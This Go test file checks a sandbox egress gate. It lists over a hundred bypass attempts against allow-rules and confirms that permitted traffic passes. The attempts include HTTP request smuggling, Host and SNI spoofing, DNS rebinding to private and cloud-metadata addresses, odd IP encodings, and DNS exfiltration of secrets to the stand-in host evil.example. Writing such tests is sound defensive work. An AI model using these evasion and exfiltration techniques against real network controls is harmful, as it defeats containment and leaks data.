package egress_test

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"crypto/tls"

	"golang.org/x/net/dns/dnsmessage"

	"skillrun/profiles"
)

// attempt is one way to get somewhere that no rule grants. want is what a
// server, or the name server, notes if it works.
type attempt struct {
	name, want string
	try        func(place)
}

// say connects, sends each part, and reads what comes.
func say(host string, port int, parts ...string) func(place) {
	return func(p place) {
		c, err := p.dial(host, port)
		if err != nil {
			return
		}
		defer c.Close()
		send(c, parts...)
	}
}

// later connects, and says nothing for longer than the gate waits where a server
// may speak first: there, until the gate has connected.
func later(host string, port int, parts ...string) func(place) {
	return func(p place) {
		c, err := p.dial(host, port)
		if err != nil {
			return
		}
		defer c.Close()
		switch port {
		case 80, 443:
			time.Sleep(100 * time.Millisecond)
		default:
			for end := time.Now().Add(5 * time.Second); p.w.busy.Load() == 0 && time.Now().Before(end); {
				time.Sleep(time.Millisecond)
			}
		}
		send(c, parts...)
	}
}

// send writes each part after the server had time to react to the one before:
// the reaction is what is waited for, or its absence for a while.
func send(c net.Conn, parts ...string) {
	buf := make([]byte, 4096)
	for _, s := range parts {
		if _, err := io.WriteString(c, s); err != nil {
			return
		}
		c.SetReadDeadline(time.Now().Add(250 * time.Millisecond))
		for {
			n, err := c.Read(buf)
			if err != nil || n < len(buf) {
				break
			}
		}
	}
}

func get(host string) string { return "GET / HTTP/1.1\r\nHost: " + host + "\r\n\r\n" }

// h2c is a request by a client that could go on in HTTP/2, such as Java's.
func h2c(host string) string {
	return "GET / HTTP/1.1\r\nConnection: Upgrade, HTTP2-Settings\r\nHost: " + host + "\r\nHTTP2-Settings: AAAA\r\nUpgrade: h2c\r\nX: y\r\n\r\n"
}

// bodied is a request with a body, at a server that does not read it.
func bodied(method, body string) string {
	return fmt.Sprintf("%s /ignore-body HTTP/1.1\r\nHost: cdn.example\r\nContent-Length: %d\r\n\r\n%s", method, len(body), body)
}

const evil = "host=evil.example"

// hello captures the ClientHello that Go sends for a name.
func hello(name string) []byte {
	a, b := net.Pipe()
	go tls.Client(a, &tls.Config{ServerName: name, InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}}).Handshake()
	buf := make([]byte, 16<<10)
	n, _ := b.Read(buf)
	b.Close()
	a.Close()
	return buf[:n]
}

// extend adds extensions to a ClientHello, first or last.
func extend(h []byte, exts ...[]byte) []byte {
	body := slices.Clone(h[9:])
	at := 34
	at += 1 + int(body[at])
	at += 2 + int(binary.BigEndian.Uint16(body[at:]))
	at += 1 + int(body[at])
	old := body[at+2:]
	more := slices.Concat(exts...)
	all := slices.Concat(more, old)
	body = binary.BigEndian.AppendUint16(body[:at], uint16(len(all)))
	body = append(body, all...)
	msg := append([]byte{1, byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body))}, body...)
	return records(msg, 16<<10)
}

// records cuts a handshake message into records of at most size bytes.
func records(msg []byte, size int) []byte {
	var out []byte
	for len(msg) > 0 {
		n := min(size, len(msg))
		out = append(out, 22, 3, 1, byte(n>>8), byte(n))
		out = append(out, msg[:n]...)
		msg = msg[n:]
	}
	return out
}

func extension(kind uint16, body []byte) []byte {
	b := binary.BigEndian.AppendUint16(nil, kind)
	b = binary.BigEndian.AppendUint16(b, uint16(len(body)))
	return append(b, body...)
}

func sniOf(names ...string) []byte {
	var list []byte
	for _, n := range names {
		list = append(list, 0, byte(len(n)>>8), byte(len(n)))
		list = append(list, n...)
	}
	return extension(0, append(binary.BigEndian.AppendUint16(nil, uint16(len(list))), list...))
}

// withoutSNI is a hello with no server name, to add odd ones to.
func withoutSNI() []byte { return hello("") }

func ech() []byte {
	return extension(0xfe0d, append([]byte{0, 0, 1, 0, 1, 7, 0, 32}, make([]byte, 80)...))
}

func slowly(b []byte) []string {
	var parts []string
	for i := 0; i < len(b); i += 500 {
		parts = append(parts, string(b[i:min(i+500, len(b))]))
	}
	return parts
}

// question sends one DNS message, by TCP if tcp.
func question(tcp bool, msg []byte) func(place) {
	return func(p place) {
		network := "udp"
		if tcp {
			network = "tcp"
			msg = append(binary.BigEndian.AppendUint16(nil, uint16(len(msg))), msg...)
		}
		c, err := net.Dial(network, p.dns)
		if err != nil {
			return
		}
		defer c.Close()
		send(c, string(msg))
	}
}

func query(name string, t dnsmessage.Type, class dnsmessage.Class) []byte {
	m := dnsmessage.Message{Header: dnsmessage.Header{ID: 5, RecursionDesired: true}, Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: t, Class: class}}}
	b, err := m.Pack()
	if err != nil {
		panic(err)
	}
	return b
}

func attempts() []attempt {
	in := dnsmessage.ClassINET
	chunked := "POST / HTTP/1.1\r\nHost: cdn.example\r\nTransfer-Encoding: chunked\r\n\r\n"
	list := []attempt{
		// Names and addresses.
		{"undeclared name", evil, say("evil.example", 80, get("evil.example"))},
		{"undeclared name, TLS", "sni=evil.example", say("evil.example", 443, string(hello("evil.example")))},
		{"literal address", "at=151.101.1.70", say("151.101.1.70", 80, get("good.example"))},
		{"literal IPv6 address", "at=[2606:2800:220:1::9]", say("2606:2800:220:1::9", 80, get("good.example"))},
		{"literal address, allowed SNI", "at=151.101.1.71", say("151.101.1.71", 443, string(hello("good.example")))},
		{"port that no rule names", "at=93.184.216.34:9999", say("good.example", 9999, get("good.example"))},
		{"port of another name at the same address", "at=93.184.216.34:8080", func(p place) {
			p.resolve("good.example")
			say("other.example", 8080, get("other.example"))(p)
		}},
		{"longer name", "host=notgood.example", say("notgood.example", 80, get("notgood.example"))},
		{"name beneath an exact rule", "host=exfil.good.example", say("exfil.good.example", 80, get("exfil.good.example"))},
		{"allowed name as a prefix", "host=good.example.evil.x", say("good.example.evil.x", 80, get("good.example.evil.x"))},
		{"the domain of a wildcard itself", "host=wild.example", say("wild.example", 80, get("wild.example"))},
		{"neighbour of an address", "at=192.0.2.8", say("192.0.2.8", 80, get("x.test"))},
		{"neighbour of a prefix", "at=198.51.101.1", say("198.51.101.1", 7000, "x")},
		{"private address", "at=10.0.0.5", say("10.0.0.5", 80, get("good.example"))},
		{"metadata address", "at=169.254.169.254", say("169.254.169.254", 80, get("good.example"))},
		{"IPv4-mapped private address", "at=10.0.0.6", say("::ffff:10.0.0.6", 80, get("good.example"))},
		{"unique local address", "at=[fd00::9]", say("fd00::9", 80, get("good.example"))},
		{"loopback of the host", "at=127.0.0.1", say("127.0.0.1", 80, get("good.example"))},
		{"IPv6 loopback of the host", "at=[::1]", say("::1", 80, get("good.example"))},
		{"other loopback of the host", "at=127.8.9.1", say("127.8.9.1", 80, get("good.example"))},
		{"address 0", "plain method=GET host=zero", say("0.0.0.0", 80, get("zero"))},
		{"6to4 of a private address", "at=[2002:a00:5::1]", say("2002:a00:5::1", 80, get("good.example"))},
		// Rebinding: allowed names that resolve to what is not public.
		{"name to private", "at=10.0.0.5", say("rebind.example", 80, get("rebind.example"))},
		{"name to loopback", "at=127.0.0.1", say("loop.example", 80, get("loop.example"))},
		{"name to metadata", "at=169.254.169.254", say("meta.example", 80, get("meta.example"))},
		{"name to unique local", "at=[fd00::5]", say("ula.example", 80, get("ula.example"))},
		{"name to NAT64 of private", "at=[64:ff9b::a00:5]", say("nat64.example", 80, get("nat64.example"))},
		{"name to mapped private", "at=10.0.0.5", say("mapped.example", 80, get("mapped.example"))},
		{"name to private and public", "at=10.0.0.5", say("half.example", 80, get("half.example"))},
		{"name that changes to private", "at=10.0.0.8", func(p place) {
			for range 4 {
				addrs, _ := p.resolve("flip.example")
				for _, a := range addrs {
					say(a.String(), 80, get("flip.example"))(p)
				}
			}
		}},
		{"undeclared name to loopback", "at=127.0.0.1", say("127.0.0.1.nip.io", 80, get("127.0.0.1.nip.io"))},
		{"decimal address as a name", "at=93.184.216.96", say("2130706433", 80, get("good.example"))},
		{"hexadecimal address as a name", "at=93.184.216.96", say("0x7f000001", 80, get("good.example"))},
		{"short address as a name", "at=93.184.216.96", say("127.1", 80, get("good.example"))},
		{"octal address as a name", "at=93.184.216.96", say("0177.0.0.1", 80, get("good.example"))},
		// HTTP: another host at an allowed address.
		{"Host of another", evil, say("cdn.example", 80, get("evil.example"))},
		{"Host in capitals", "host=EVIL.example", say("cdn.example", 80, get("EVIL.example"))},
		{"Host with a dot", "host=evil.example.", say("cdn.example", 80, get("evil.example."))},
		{"Host by address", "host=151.101.1.69", say("cdn.example", 80, get("151.101.1.69"))},
		{"Host with userinfo", "host=cdn.example@evil.example", say("cdn.example", 80, get("cdn.example@evil.example"))},
		{"Host with a list", "host=cdn.example, evil.example", say("cdn.example", 80, get("cdn.example, evil.example"))},
		{"absolute form of another", evil, say("cdn.example", 80, "GET http://evil.example/ HTTP/1.1\r\nHost: cdn.example\r\n\r\n")},
		{"absolute form, Host of another", "header=evil.example", say("cdn.example", 80, "GET http://cdn.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")},
		{"second request of a connection", evil, say("cdn.example", 80, get("cdn.example"), get("evil.example"))},
		{"pipelined request", evil, say("cdn.example", 80, get("cdn.example")+get("evil.example"))},
		{"second request after a body", evil, say("cdn.example", 80, "POST / HTTP/1.1\r\nHost: cdn.example\r\nContent-Length: 2\r\n\r\nab"+get("evil.example"))},
		{"second request after chunks", evil, say("cdn.example", 80, chunked+"2\r\nab\r\n0\r\n\r\n"+get("evil.example"))},
		{"request as the body of another", evil, say("cdn.example", 80, bodied("GET", get("evil.example")))},
		{"request as the body of another, behind blanks", evil, say("cdn.example", 80, bodied("DELETE", "\r\n "+get("evil.example")))},
		{"request as the body of another, in pieces", evil, say("cdn.example", 80, strings.SplitAfter(bodied("FROB", get("evil.example")), "T")...)},
		{"request of HTTP/0.9 as the body of another", evil, say("cdn.example", 80, bodied("HEAD", "GET http://evil.example/\n"))},
		{"two Hosts", evil, say("cdn.example", 80, "GET / HTTP/1.1\r\nHost: cdn.example\r\nHost: evil.example\r\n\r\n")},
		{"Host with a blank before the colon", evil, say("cdn.example", 80, "GET / HTTP/1.1\r\nHost: cdn.example\r\nHost : evil.example\r\n\r\n")},
		{"folded Host", evil, say("cdn.example", 80, "GET / HTTP/1.1\r\nHost: cdn.example\r\nX: y\r\n Host: evil.example\r\n\r\n")},
		{"Host after a bare line feed", evil, say("cdn.example", 80, "GET / HTTP/1.1\r\nHost: cdn.example\r\nX: y\nHost: evil.example\r\n\r\n")},
		{"request after a bare empty line", evil, say("cdn.example", 80, "GET / HTTP/1.1\r\nHost: cdn.example\n\n"+get("evil.example"))},
		{"line feeds alone", evil, say("cdn.example", 80, "GET / HTTP/1.1\nHost: evil.example\n\n")},
		{"length and chunks", evil, say("cdn.example", 80, "POST / HTTP/1.1\r\nHost: cdn.example\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n"+get("evil.example"))},
		{"chunks and length", evil, say("cdn.example", 80, "POST / HTTP/1.1\r\nHost: cdn.example\r\nContent-Length: 50\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+get("evil.example"))},
		{"two lengths", evil, say("cdn.example", 80, "POST / HTTP/1.1\r\nHost: cdn.example\r\nContent-Length: 90\r\nContent-Length: 0\r\n\r\n"+get("evil.example"))},
		{"odd transfer coding", evil, say("cdn.example", 80, "POST / HTTP/1.1\r\nHost: cdn.example\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"+get("evil.example"))},
		{"chunks in HTTP/1.0", evil, say("cdn.example", 80, "POST / HTTP/1.0\r\nHost: cdn.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+get("evil.example"))},
		{"request hidden in an overflowing chunk size", evil, say("cdn.example", 80, chunked+"0000000000000000000000\r\n\r\n"+get("evil.example"))},
		{"empty line before the request", evil, say("cdn.example", 80, "\r\n"+get("evil.example"))},
		{"blank before the request", evil, say("cdn.example", 80, " "+get("evil.example"))},
		{"empty line before the request, on another port", evil, say("cdn.example", 8080, "\r\n"+get("evil.example"))},
		{"blank before the request, on another port", evil, say("cdn.example", 8080, " ", get("evil.example"))},
		{"blanks before a method that nobody knows", evil, say("cdn.example", 8080, "\n \tFROB / HTTP/1.1\r\nHost: evil.example\r\n\r\n")},
		{"tab in the request line", evil, say("cdn.example", 80, "GET\t/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")},
		{"method in lower case", evil, say("cdn.example", 80, "get / HTTP/1.1\r\nHost: evil.example\r\n\r\n")},
		{"method that nobody knows", evil, say("cdn.example", 8080, "FROB / HTTP/1.1\r\nHost: evil.example\r\n\r\n")},
		{"version of RTSP, which Node takes for HTTP", evil, say("cdn.example", 8080, "SETUP / RTSP/1.0\r\nHost: evil.example\r\n\r\n")},
		{"version of Icecast, as well", evil, say("cdn.example", 8080, "SOURCE / ICE/1.0\r\nHost: evil.example\r\n\r\n")},
		{"method without a version, which Node takes with a head", "host=evil.example header", say("cdn.example", 8080, "NOTIFY http://evil.example/\r\nHost: evil.example\r\n\r\n")},
		{"asterisk without a version, as well", "method=NOTIFY host= header= target=*", say("cdn.example", 8080, "NOTIFY *\r\nHost: evil.example\r\n\r\n")},
		{"escaped target, which Java takes", evil, say("cdn.example", 8080, "set %2F FROB\r\nHost: evil.example\r\n\r\n")},
		{"URL without a host, as well", evil, say("cdn.example", 8080, "FROB x:/ FROB\r\nHost: evil.example\r\n\r\n")},
		{"version that nobody knows, which Java takes", evil, say("cdn.example", 8080, "FROB / FROB/1.1\r\nHost: evil.example\r\n\r\n")},
		{"HTTP/0.9 with a host", evil, say("cdn.example", 8080, "GET http://evil.example/\r\n")},
		{"version 1.2", evil, say("cdn.example", 80, "GET / HTTP/1.2\r\nHost: evil.example\r\n\r\n")},
		{"tunnel through the host", "method=CONNECT host=evil.example", say("cdn.example", 80, "CONNECT evil.example:443 HTTP/1.1\r\nHost: cdn.example\r\n\r\n")},
		{"tunnel to itself, then another", evil, say("cdn.example", 80, "CONNECT cdn.example:80 HTTP/1.1\r\nHost: cdn.example\r\n\r\n", get("evil.example"))},
		{"request in two halves", evil, say("cdn.example", 80, "GET / HTTP/1.1\r\nHo", "st: evil.example\r\n\r\n")},
		{"request after a silence", evil, later("cdn.example", 80, get("evil.example"))},
		{"request after a silence, on another port", evil, later("cdn.example", 8080, get("evil.example"))},
		{"WebSocket that the server declines", evil, say("cdn.example", 80, "GET / HTTP/1.1\r\nHost: cdn.example\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\n", get("evil.example"))},
		{"WebSocket that the server declines, after a silence", evil, later("cdn.example", 8080, "GET / HTTP/1.1\r\nHost: cdn.example\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\n", get("evil.example"))},
		{"upgrade to plain HTTP/2, after a silence", "h2c upgrade", later("cdn.example", 8080, h2c("cdn.example"))},
		{"offer of plain HTTP/2 after a request", "h2c settings", say("cdn.example", 80, get("cdn.example"), h2c("cdn.example"))},
		{"upgrade to plain HTTP/2 or a WebSocket", "h2c upgrade", say("cdn.example", 80, "GET /ws HTTP/1.1\r\nHost: cdn.example\r\nUpgrade: h2c\r\nUpgrade: websocket\r\nHTTP2-Settings: AAAA\r\n\r\n")},
		{"upgrade to plain HTTP/2", "h2c upgrade", say("cdn.example", 80, "GET /h2 HTTP/1.1\r\nHost: cdn.example\r\nUpgrade: h2c\r\nHTTP2-Settings: AAAA\r\n\r\n")},
		{"HTTP/2 without upgrade", "method=PRI", say("cdn.example", 8080, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")},
		{"proxy preamble", "method=PROXY", say("cdn.example", 8080, "PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n\r\n")},
		// Read-only rules.
		{"POST", "method=POST", say("read.example", 80, "POST / HTTP/1.1\r\nHost: read.example\r\nContent-Length: 0\r\n\r\n")},
		{"DELETE", "method=DELETE", say("read.example", 80, "DELETE / HTTP/1.1\r\nHost: read.example\r\n\r\n")},
		{"method in mixed case", "method=Post", say("read.example", 80, "Post / HTTP/1.1\r\nHost: read.example\r\n\r\n")},
		{"POST after GET", "method=POST", say("read.example", 80, get("read.example"), "POST / HTTP/1.1\r\nHost: read.example\r\nContent-Length: 0\r\n\r\n")},
		{"POST hidden in the body of a GET", "method=POST", say("read.example", 80, "GET /ignore-body HTTP/1.1\r\nHost: read.example\r\nContent-Length: 46\r\n\r\nPOST / HTTP/1.1\r\nHost: read.example\r\nX-Pad: 1\r\n\r\n")},
		{"POST in absolute form, Host of a name for more at the address", "method=POST host=read.example", func(p place) {
			p.resolve("post.example")
			say("read.example", 80, "POST http://read.example/ HTTP/1.1\r\nHost: post.example\r\nContent-Length: 0\r\n\r\n")(p)
		}},
		{"POST with that Host, absolute form of a name for more at the address", "method=POST host=post.example header=read.example", func(p place) {
			p.resolve("post.example")
			say("read.example", 80, "POST http://post.example/ HTTP/1.1\r\nHost: read.example\r\nContent-Length: 0\r\n\r\n")(p)
		}},
		{"method override", "target=/override", say("read.example", 80, "GET /override HTTP/1.1\r\nHost: read.example\r\nX-HTTP-Method-Override: DELETE\r\n\r\n")},
		{"method override with underscores", "target=/override", say("read.example", 80, "GET /override HTTP/1.1\r\nHost: read.example\r\nX_HTTP_Method_Override: DELETE\r\n\r\n")},
		{"WebSocket under read-only", "target=/ws", say("read.example", 80, "GET /ws HTTP/1.1\r\nHost: read.example\r\nUpgrade: websocket\r\n\r\n")},
		{"POST to a read-only address", "method=POST", say("203.0.113.9", 80, "POST / HTTP/1.1\r\nHost: x.test\r\nContent-Length: 0\r\n\r\n")},
		{"POST to another host at an address for reading with a name for more", "method=POST", say("mixed.example", 80, "POST / HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 0\r\n\r\n")},
		{"POST to another host there after a GET", "method=POST", say("mixed.example", 80, get("evil.example"), "POST / HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 0\r\n\r\n")},
		{"WebSocket to another host there", "target=/ws", say("mixed.example", 80, "GET /ws HTTP/1.1\r\nHost: evil.example\r\nUpgrade: websocket\r\n\r\n")},
		{"tunnel through that address", "method=CONNECT", say("mixed.example", 80, "CONNECT evil.example:443 HTTP/1.1\r\nHost: mixed.example\r\n\r\n")},
		// TLS: another name at an allowed address.
		{"SNI of another", "sni=evil.example", say("cdn.example", 443, string(hello("evil.example")))},
		{"SNI of another, after a silence", "sni=evil.example", later("cdn.example", 443, string(hello("evil.example")))},
		{"SNI of another, after a silence, on another port", "sni=evil.example", later("cdn.example", 8443, string(hello("evil.example")))},
		{"SNI in capitals", "sni=EVIL.EXAMPLE", say("cdn.example", 443, string(extend(withoutSNI(), sniOf("EVIL.EXAMPLE"))))},
		{"SNI over two records", "sni=evil.example", say("cdn.example", 443, string(records(hello("evil.example")[5:], 60)))},
		{"SNI over records of one byte", "sni=evil.example", say("cdn.example", 443, string(records(hello("evil.example")[5:], 1)))},
		{"SNI over segments", "sni=evil.example", say("cdn.example", 443, slowly(hello("evil.example"))...)},
		{"SNI behind padding", "sni=evil.example", say("cdn.example", 443, string(records(extend(hello("evil.example"), extension(21, make([]byte, 14000)))[5:], 9000)))},
		{"hidden name, outer name of another", "sni=cloudflare-ech.com", say("cdn.example", 443, string(extend(hello("cloudflare-ech.com"), ech())))},
		{"hidden name, no outer name", "sni= ", say("cdn.example", 443, string(extend(withoutSNI(), ech())))},
		{"SNI with NUL", "sni=evil.example\x00.cdn.example", say("cdn.example", 443, string(extend(withoutSNI(), sniOf("evil.example\x00.cdn.example"))))},
		{"TLS on another port", "sni=evil.example", say("cdn.example", 8443, string(hello("evil.example")))},
		// DNS as a way out.
		{"secret in an undeclared name", "asked secret.evil.example", question(false, query("secret.evil.example.", dnsmessage.TypeA, in))},
		{"secret beneath an allowed name", "asked secret.good.example", question(false, query("secret.good.example.", dnsmessage.TypeA, in))},
		{"secret in a TXT question", "asked secret2.evil.example", question(false, query("secret2.evil.example.", dnsmessage.TypeTXT, in))},
		{"TXT of an allowed name", "asked good.example TypeTXT", question(false, query("good.example.", dnsmessage.TypeTXT, in))},
		{"secret by TCP", "asked secret3.evil.example", question(true, query("secret3.evil.example.", dnsmessage.TypeA, in))},
		{"secret in class CHAOS", "asked secret4.evil.example", question(false, query("secret4.evil.example.", dnsmessage.TypeTXT, dnsmessage.ClassCHAOS))},
		{"secret in a name with NUL", "asked secret5\x00.good.example", question(false, query("secret5\x00.good.example.", dnsmessage.TypeA, in))},
		{"secret in a reverse name", "asked 1.0.0.10.in-addr.arpa", question(false, query("1.0.0.10.in-addr.arpa.", dnsmessage.TypePTR, in))},
		{"secret in an HTTPS question", "asked secret6.evil.example", question(false, query("secret6.evil.example.", dnsmessage.TypeHTTPS, in))},
		// Other transports.
		{"datagram to an allowed address", "udp datagram-secret", func(p place) {
			addrs, err := p.resolve("good.example")
			if err != nil {
				return
			}
			c, err := net.Dial("udp", netip.AddrPortFrom(addrs[0], 443).String())
			if err == nil {
				send(c, "datagram-secret")
				c.Close()
			}
		}},
		{"datagram to a literal address", "udp datagram-secret", func(p place) {
			c, err := net.Dial("udp", "151.101.1.72:9999")
			if err == nil {
				send(c, "datagram-secret")
				c.Close()
			}
		}},
	}
	return list
}

// TestBypass tries each way to a forbidden place from inside a run. Outside,
// the same try succeeds, or the test says nothing.
func TestBypass(t *testing.T) {
	w := newWorld(t)
	asked := 0
	w.lies["flip.example"] = func(q dnsmessage.Question, id uint16) []byte {
		if q.Type == dnsmessage.TypeA {
			asked++
		}
		return honest(q, id, []string{[]string{"10.0.0.8", "93.184.216.97"}[asked%2]})
	}
	n := rules()
	n.Hosts = append(n.Hosts, profiles.HostRule{Host: "flip.example", Ports: []profiles.PortRange{{First: 80, Last: 80}}, Protocols: profiles.TCP})
	g, _ := newGate(t, n)
	run := newRun(t, g, n)
	list := attempts()
	if len(list) < 60 {
		t.Errorf("%d attempts; 60 are the least", len(list))
	}
	for _, a := range list {
		t.Run(a.name, func(t *testing.T) {
			w.reached()
			a.try(place{w, nameServer})
			if got := w.reached(); !noted(got, a.want) {
				t.Fatalf("control: %q was not reached outside either: %q", a.want, got)
			}
			run.in(func() { a.try(place{w, "8.8.8.8:53"}) })
			for end := time.Now().Add(6 * time.Second); g.Live() > 0 && time.Now().Before(end); {
				time.Sleep(time.Millisecond)
			}
			if got := w.reached(); noted(got, a.want) {
				t.Errorf("reached from inside: %q", got)
			}
		})
	}
}

func noted(notes []string, want string) bool {
	return slices.ContainsFunc(notes, func(s string) bool { return strings.Contains(s+" ", want) })
}

// TestReached is the other half: what the rules grant works from inside.
func TestReached(t *testing.T) {
	w := newWorld(t)
	n := rules()
	g, _ := newGate(t, n)
	run := newRun(t, g, n)
	for _, a := range []attempt{
		{"name", "host=good.example", say("good.example", 80, get("good.example"))},
		{"name in capitals with port", "header=GOOD.example:80", say("good.example", 80, get("GOOD.example:80"))},
		{"absolute form", "host=good.example", say("good.example", 80, "GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n")},
		{"two requests", "target=/2", say("good.example", 80, get("good.example"), "GET /2 HTTP/1.1\r\nHost: good.example\r\n\r\n")},
		{"chunks, then another", "target=/3", say("good.example", 80, "POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\nGET /3 HTTP/1.1\r\nHost: good.example\r\n\r\n")},
		{"HTTP/1.0 without Host", "target=/old", say("good.example", 80, "GET /old HTTP/1.0\r\n\r\n")},
		{"read-only GET", "method=GET host=read.example", say("read.example", 80, get("read.example"))},
		{"SNI", "sni=good.example", say("good.example", 443, string(hello("good.example")))},
		{"SNI over records of one byte", "sni=good.example", say("good.example", 443, string(records(hello("good.example")[5:], 1)))},
		{"SNI over segments", "sni=good.example", say("good.example", 443, slowly(hello("good.example"))...)},
		{"ECH extension with the allowed name", "sni=good.example", say("good.example", 443, string(extend(hello("good.example"), ech())))},
		{"no SNI", "sni= ", say("good.example", 443, string(withoutSNI()))},
		{"other name at the same address", "host=other.example", say("other.example", 80, get("other.example"))},
		{"IPv6", "at=[2606:2800:220:1::1]", say("six.example", 80, get("six.example"))},
		{"IPv4 by a translator", "at=[64:ff9b::5db8:d822]", say("translated.example", 80, get("translated.example"))},
		{"beneath a wildcard", "host=a.wild.example", say("a.wild.example", 80, get("a.wild.example"))},
		{"punycode", "host=xn--bcher-kva.test", say("xn--bcher-kva.test", 80, get("xn--bcher-kva.test"))},
		{"private by grant", "at=10.0.0.7", say("intranet.example", 80, get("intranet.example"))},
		{"half private", "at=93.184.216.60", say("half.example", 80, get("half.example"))},
		{"address", "at=192.0.2.7", say("192.0.2.7", 80, get("whatever.test"))},
		{"mapped address", "at=192.0.2.7", say("::ffff:192.0.2.7", 80, get("whatever.test"))},
		{"prefix", "at=198.51.100.77", say("198.51.100.77", 7000, "x")},
		{"read-only address", "at=203.0.113.9", say("203.0.113.9", 80, get("whatever.test"))},
		{"any host at an address for reading with a name for more", "host=whatever.test", say("mixed.example", 80, get("whatever.test"))},
		{"POST to that name", "method=POST host=mixed.example", say("mixed.example", 80, "POST / HTTP/1.1\r\nHost: mixed.example\r\nContent-Length: 0\r\n\r\n")},
		{"server speaks first", `ssh client="hi\n"`, say("server-first.test", 2222, "", "hi\n")},
		{"neither HTTP nor TLS", "echo at=93.184.216.94", say("server-first.test", 7000, "\x00\x01binary")},
		{"MySQL that asks for TLS", "echo at=93.184.216.94", say("server-first.test", 7000, "\x20\x00\x00\x01\x85\xae\xff\x19")},
		{"memcached", "echo at=93.184.216.94", say("server-first.test", 7000, "get key\r\n")},
		{"NATS", "echo at=93.184.216.94", say("server-first.test", 7000, "CONNECT {\"verbose\":false}\r\nPING\r\n")},
		{"LDAP", "echo at=93.184.216.94", say("server-first.test", 7000, "\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00")},
		{"MongoDB", "echo at=93.184.216.94", say("server-first.test", 7000, "\x16\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00")},
		{"GET with a body", "target=/3", say("good.example", 80, "GET /_search HTTP/1.1\r\nHost: good.example\r\nContent-Length: 16\r\n\r\n", "\n{\"query\": null}GET /3 HTTP/1.1\r\nHost: good.example\r\n\r\n")},
		{"GET with a body of words", "target=/3", say("good.example", 80, "GET / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 5\r\n\r\nab cdGET /3 HTTP/1.1\r\nHost: good.example\r\n\r\n")},
		{"POST of a request", "method=POST host=good.example", say("good.example", 80, "POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 18\r\n\r\nGET / HTTP/1.1\r\n\r\n")},
		{"WebSocket", "target=/ws", say("good.example", 80, "GET /ws HTTP/1.1\r\nHost: good.example\r\nUpgrade: websocket\r\n\r\n", "\x81\x01x")},
		{"after a silence", "host=good.example", later("good.example", 80, get("good.example"))},
		{"after a silence, on another port", "host=good.example", later("good.example", 8080, get("good.example"))},
		{"WebSocket after a silence, on another port", "target=/ws", later("good.example", 8080, "GET /ws HTTP/1.1\r\nHost: good.example\r\nUpgrade: websocket\r\n\r\n", "\x81\x01x")},
		{"what offers to go on in HTTP/2", "target=/2", say("good.example", 80, h2c("good.example"), "GET /2 HTTP/1.1\r\nHost: good.example\r\n\r\n")},
		{"that, read only", "host=read.example", say("read.example", 80, h2c("read.example"))},
		{"that, in absolute form", "host=good.example", say("good.example", 80, strings.Replace(h2c("good.example"), "GET ", "GET http://good.example", 1))},
		{"WebSocket after a silence", "target=/ws", later("good.example", 80, "GET /ws HTTP/1.1\r\nHost: good.example\r\nUpgrade: websocket\r\n\r\n", "\x81\x01x")},
	} {
		t.Run(a.name, func(t *testing.T) {
			w.reached()
			run.in(func() { a.try(place{w, "8.8.8.8:53"}) })
			if got := w.reached(); !noted(got, a.want) {
				t.Errorf("%q was not reached from inside: %q", a.want, got)
			}
		})
	}
	if g.Live() > 1000 {
		t.Error(fmt.Sprint("connections left: ", g.Live()))
	}
}
